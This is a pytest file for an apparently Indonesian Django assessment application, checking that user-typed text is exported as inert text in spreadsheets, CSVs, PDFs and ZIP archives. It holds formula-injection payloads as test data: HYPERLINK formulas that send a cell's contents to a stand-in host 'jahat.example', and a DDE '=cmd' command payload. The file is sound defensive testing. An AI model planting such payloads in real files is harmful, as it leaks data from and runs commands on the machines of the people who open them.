"""What people typed leaves as text: no formula in a sheet, no broken file, whatever the signs."""

import csv
import io
import re
import zipfile
from pathlib import PurePath
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from django.db import transaction
from django.urls import reverse
from django.utils import timezone

from bening.kernel.evidence.actions import items
from bening.kernel.evidence.actions.links import Subject
from bening.kernel.ledger import actions as ledger
from bening.kernel.people.models import Reach, Role
from bening.systems.assessment.actions import answers, closings, rounds
from bening.systems.assessment.models import Opinion, Round
from tests.attacks.town import browser
from tests.systems.assessment.makers import NOW, TODAY, City, add_person, answer_of, close, find, make_city, start
from tests.systems.oversight.makers import add

pytestmark = pytest.mark.django_db
SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "|", "%"]
FORMULAS = [f'{sign}HYPERLINK("http://jahat.example/?"&A1,"x")' for sign in SIGNS] + ["=cmd|' /C calc'!A0", "@SUM(1+1)"]
BROKEN = "\x01\x08\x0b\x1f\x7f\ufffe\uffff\u202e<b>&amp;]]>\"'"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b")


@transaction.atomic
def renamed(city: City, text: str) -> None:
    for office in city.offices.values():
        office.name, office.short_name = f"{text}{office.name}"[:150], f"{text}"[:40]
    for person in city.people.values():
        person.name = f"{text}{person.name}"[:100]
    ledger.record("sample.named", [*city.offices.values(), *city.people.values()], by=None, at=NOW)


def whole_round(city: City, text: str) -> Round:
    """Walk a round to its corrected result with the text wherever a person may write."""
    round_ = start(city)
    for code, value in {"K.1": "B", "K.2": "50"}.items():
        answer = answer_of(round_, code)
        who: dict[str, Any] = {"answer_id": answer.pk, "now": NOW}
        saved = answers.save_draft(by=city.people["operator"], seen=answer.version, value=value, note=text, **who)
        rounds.write_remark(by=city.people["operator"], text=text + "x", due_on=None, **who)
        paper = items.Paper(f"{text}x", f"{text}x", f"{text}x", TODAY)
        behind = Subject("assessment.answer", answer.pk)
        owner = city.offices["dinas"].pk
        items.add_paper(by=city.people["operator"], owner_id=owner, paper=paper, now=NOW, behind=behind)
        sent = answers.submit_answer(by=city.people["operator"], seen=saved.version, **who)
        answers.approve_answer(by=city.people["kepala"], seen=sent.version, **who)
        find(city, round_, "apip", code, value, reason=f"{text}x")
    close(city, round_, Opinion.SELF)
    closings.open_correction_window(
        by=city.people["koordinator"], round_id=round_.pk, seen=Round.objects.get(pk=round_.pk).version,
        codes=["K.1"], reason=f"{text}x", ends_on=timezone.localdate().replace(year=2099), now=NOW,
    )  # fmt: skip
    return round_


def town(text: str) -> tuple[City, Round]:
    city = make_city()
    add_person(city, "petugas", "badan", Role.OVERSIGHT, Reach.REGION)
    renamed(city, text)
    return city, whole_round(city, text)


def content(answer: Any) -> bytes:
    assert answer.status_code == 200
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def files(city: City, round_: Round) -> dict[str, bytes]:
    """Take every file that holds what people wrote, and what lies in the ZIP among them."""
    add(city)
    wanted = [
        ("operator", reverse("assessment:worksheet", args=[round_.pk])),
        ("koordinator", reverse("assessment:handing_sheet", args=[round_.pk])),
        ("petugas", reverse("oversight:export", args=[city.region.code]) + "?tahun=2024"),
        ("koordinator", reverse("assessment:record", args=[round_.pk])),
        ("walikota", reverse("assessment:mayor_pdf")),
        ("koordinator", reverse("portal:region_csv", args=[city.region.code])),
        ("koordinator", reverse("portal:declarations_csv", args=[city.region.code])),
        ("koordinator", reverse("portal:region_json", args=[city.region.code])),
    ]
    found = {address: content(browser(city.people[who]).get(address)) for who, address in wanted}
    taken = content(browser(city.people["koordinator"]).post(reverse("assessment:take_away", args=[round_.pk])))
    with zipfile.ZipFile(io.BytesIO(taken)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            assert not name.startswith(("/", "\\"))
            assert ".." not in PurePath(name).parts
            assert not re.search(r"[\x00-\x1f]", name)
            found[f"zip/{name}"] = archive.read(name)
    return found


def look(name: str, made: bytes) -> str:
    """Look into a file and return its kind; a sheet holds no formula, a CSV no cell that begins one."""
    if made.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(made)) as book:
            for part in book.namelist():
                if part.endswith((".xml", ".rels")):
                    root = ET.fromstring(book.read(part))  # noqa: S314  # our own file
                    typed = [cell.text or "" for cell in root.iter() if cell.tag.endswith("}f")]
                    assert not any("HYPERLINK" in text or "cmd" in text or "SUM(1" in text for text in typed), name
                    assert "externalLink" not in part
                    links = [link for link in root.iter() if link.get("TargetMode") == "External"]
                    assert not links, (name, part)
        return "xlsx"
    if name.endswith(".csv"):
        for row in csv.reader(io.StringIO(made.decode("utf-8-sig"))):
            assert not [cell for cell in row if cell.startswith(STARTS) and not re.fullmatch(r"-?[0-9.,]+", cell)], name
        return "csv"
    return "pdf" if made.startswith(b"%PDF") else "text"


@pytest.mark.parametrize("text", [*FORMULAS, BROKEN])
def test_what_was_typed_leaves_as_text(text: str) -> None:
    city, round_ = town(text)
    kinds = {look(name, made) for name, made in files(city, round_).items()}
    assert kinds >= {"xlsx", "csv", "pdf"}


def test_the_look_finds_a_formula() -> None:
    with pytest.raises(AssertionError):
        look("a.csv", b"judul\n=1+1\n")
    look("a.csv", b"judul\n-1\n'=1+1\n")
